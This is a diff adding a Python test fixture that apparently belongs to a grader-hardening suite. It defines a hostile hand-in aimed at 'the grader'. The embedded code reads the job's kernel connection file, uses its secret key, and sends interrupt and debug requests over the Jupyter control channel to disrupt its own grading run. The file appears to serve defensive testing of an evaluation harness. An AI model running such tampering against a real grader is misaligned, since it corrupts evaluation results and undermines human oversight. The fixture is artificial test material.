@@ -1,0 +1,31 @@
+"""Sends requests to its own kernel over the control channel, with its own key: to shut down, and to debug."""
+
+from helpers.hostile_attacks import HandIn
+
+ATTACK = HandIn(
+    aims_at="the grader",
+    holds="A kernel that shuts itself down has ended like any other, and costs what ran at that moment.",
+    first="""
+import json
+import time
+import zmq
+from jupyter_client.session import Session
+
+def attack():
+    with open("/job/connection.json") as file:
+        connection = json.load(file)
+    session = Session(key=connection["key"].encode(), signature_scheme=connection["signature_scheme"])
+    with zmq.Context() as context, context.socket(zmq.DEALER) as socket:
+        socket.linger = 0
+        socket.connect("ipc://%s-%d" % (connection["ip"], connection["control_port"]))
+        session.send(socket, "kernel_info_request", {})
+        session.send(socket, "interrupt_request", {})
+        session.send(socket, "debug_request", {"command": "initialize", "type": "request", "seq": 1, "arguments": {}})
+        socket.poll(500)
+    return True
+
+done = attack()
+""",
+    room="messages",
+    flags=("tampering:/job",),
+)
